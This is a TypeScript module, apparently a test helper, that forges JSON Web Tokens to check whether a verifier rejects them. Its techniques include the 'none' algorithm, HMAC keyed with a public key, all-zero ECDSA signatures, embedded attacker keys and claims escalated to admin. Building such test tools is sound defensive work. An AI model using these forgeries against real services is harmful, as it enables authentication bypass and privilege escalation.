/**
 * Makes invalid tokens from the claims of a valid one. An attacker without the key of the issuer
 * can make the same tokens. Each function returns the text of one token.
 */
import {
  constants,
  createHmac,
  generateKeyPairSync,
  type KeyObject,
  randomBytes,
  sign,
} from 'node:crypto';
import type { JsonRecord, Jwt } from './token.ts';

export interface Forger {
  /** A signature in which one bit differs. */
  changeSignature(): string;
  /** Other claims with the same signature. */
  changeClaims(): string;
  dropSignature(): string;
  /**
   * r = s = 0, which a verifier that does not check these values accepts for every message.
   * Undefined if the signature is not ECDSA.
   */
  zeroSignature(): string | undefined;
  /** A new key of the same kind, with the `kid` of the issuer's key. */
  signByOtherKey(): string;
  signByUnknownKey(): string;
  /** The new key is in the header, as if the header could be trusted. */
  signByEmbeddedKey(): string;
  useOtherIssuer(): string;
  /** `algorithm` as the header writes it: `none`, `nOnE`. */
  useNone(algorithm: string): string;
  /** HMAC whose secret is a text that everybody knows: a public key. */
  useSecret(secret: string | Buffer): string;
}

interface Scheme {
  readonly make: () => { readonly publicKey: KeyObject; readonly privateKey: KeyObject };
  readonly sign: (data: Buffer, key: KeyObject) => Buffer;
}

const curves: Readonly<Record<string, readonly [curve: string, hash: string]>> = {
  ES256: ['P-256', 'sha256'],
  ES384: ['P-384', 'sha384'],
  ES512: ['P-521', 'sha512'],
};

function ecdsa([namedCurve, hash]: readonly [string, string]): Scheme {
  return {
    make: () => generateKeyPairSync('ec', { namedCurve }),
    sign: (data, key) => sign(hash, data, { key, dsaEncoding: 'ieee-p1363' }),
  };
}

function rsa(hash: string, isPss: boolean): Scheme {
  const padding = isPss ? constants.RSA_PKCS1_PSS_PADDING : constants.RSA_PKCS1_PADDING;
  const saltLength = constants.RSA_PSS_SALTLEN_DIGEST;
  return {
    make: () => generateKeyPairSync('rsa', { modulusLength: 2048 }),
    sign: (data, key) => sign(hash, data, isPss ? { key, padding, saltLength } : { key, padding }),
  };
}

const edDsa: Scheme = {
  make: () => generateKeyPairSync('ed25519'),
  sign: (data, key) => sign(null, data, key),
};

/** The key has the kind that the algorithm needs, so that only the key is wrong. */
function schemeOf(algorithm: string): Scheme {
  const [, family = '', bits = ''] = /^(RS|PS)(256|384|512)$/.exec(algorithm) ?? [];
  if (family !== '') return rsa(`sha${bits}`, family === 'PS');
  if (algorithm === 'EdDSA' || algorithm === 'Ed25519') return edDsa;
  return ecdsa(curves[algorithm] ?? ['P-256', 'sha256']);
}

function encode(value: object): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}

function flipBit(signature: string): string {
  const bytes = Buffer.from(signature, 'base64url');
  const middle = bytes.length >> 1;
  bytes.writeUInt8(bytes.readUInt8(middle) ^ 1, middle);
  return bytes.toString('base64url');
}

/** The public key as a JWK for a header. */
function jwkOf(key: KeyObject): JsonRecord {
  return { ...key.export({ format: 'jwk' }) };
}

/** Makes its new key at once. This takes a quarter of a second for RSA. */
export function createForger({ header, claims, parts }: Jwt): Forger {
  const algorithm = String(header['alg']);
  const isShared = algorithm.startsWith('HS');
  const scheme = schemeOf(algorithm);
  const { publicKey, privateKey } = scheme.make();
  const [headerPart, payloadPart, signature] = parts;

  const signHmac = (input: string, secret: string | Buffer) =>
    createHmac(`sha${isShared ? algorithm.slice(2) : '256'}`, secret)
      .update(input)
      .digest('base64url');
  const signFresh = (newHeader: JsonRecord, newClaims: JsonRecord = claims) => {
    const input = `${encode(newHeader)}.${encode(newClaims)}`;
    const signed = isShared
      ? signHmac(input, randomBytes(32))
      : scheme.sign(Buffer.from(input), privateKey).toString('base64url');
    return `${input}.${signed}`;
  };

  return {
    changeSignature: () => `${headerPart}.${payloadPart}.${flipBit(signature)}`,
    changeClaims: () => `${headerPart}.${encode({ ...claims, admin: true })}.${signature}`,
    dropSignature: () => `${headerPart}.${payloadPart}.`,
    zeroSignature() {
      if (curves[algorithm] === undefined) return undefined;
      const zeros = Buffer.alloc(Buffer.from(signature, 'base64url').length);
      return `${headerPart}.${payloadPart}.${zeros.toString('base64url')}`;
    },
    signByOtherKey: () => signFresh(header),
    signByUnknownKey: () =>
      signFresh({ ...header, kid: `unknown-${randomBytes(6).toString('hex')}` }),
    signByEmbeddedKey: () =>
      signFresh({ ...header, ...(isShared ? {} : { jwk: jwkOf(publicKey) }), kid: undefined }),
    useOtherIssuer: () => signFresh(header, { ...claims, iss: 'https://issuer.invalid' }),
    useNone: (spelled) => `${encode({ ...header, alg: spelled })}.${payloadPart}.`,
    useSecret(secret) {
      const input = `${encode({ ...header, alg: isShared ? algorithm : 'HS256' })}.${payloadPart}`;
      return `${input}.${signHmac(input, secret)}`;
    },
  };
}
